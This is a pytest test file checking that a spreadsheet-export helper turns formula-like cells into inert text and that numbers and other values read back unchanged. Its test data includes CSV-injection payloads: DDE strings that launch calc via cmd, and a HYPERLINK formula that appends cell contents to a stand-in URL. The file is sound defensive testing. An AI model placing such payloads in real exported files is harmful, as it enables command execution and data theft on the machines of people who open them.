"""What predict.py writes for Excel is text there, and reads back as what it was."""

import pytest

from engine.spreadsheet import as_written, without_formula

FORMULAS = ["=1+1", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"]
FORMULAS += ['=HYPERLINK("http://a.b?"&A1)', "-", "--", "+", "-a", "\uff1d1+1", "\n=1", "-1-1"]
NUMBERS = ["-3.5", "+1e3", "-1E-05", "-1,234.5", "-0,5", "+82 10 1234", "-5%", "-.5", "-inf", "3"]
OTHERS = ["", "a", "1=1", "'tis", "'", "''", "a;=1", "한국어", 'say "=1"', "'=1", "''=1", "'-3.5"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_would_be_computed_becomes_text(cell):
    if cell != "-":  # alone it is what many write for a missing value
        assert without_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_as_they_are(number):
    assert without_formula(number) == number
    assert as_written(number) == number


@pytest.mark.parametrize("cell", FORMULAS + NUMBERS + OTHERS)
def test_every_cell_reads_back_as_it_was(cell):
    assert as_written(without_formula(cell)) == cell
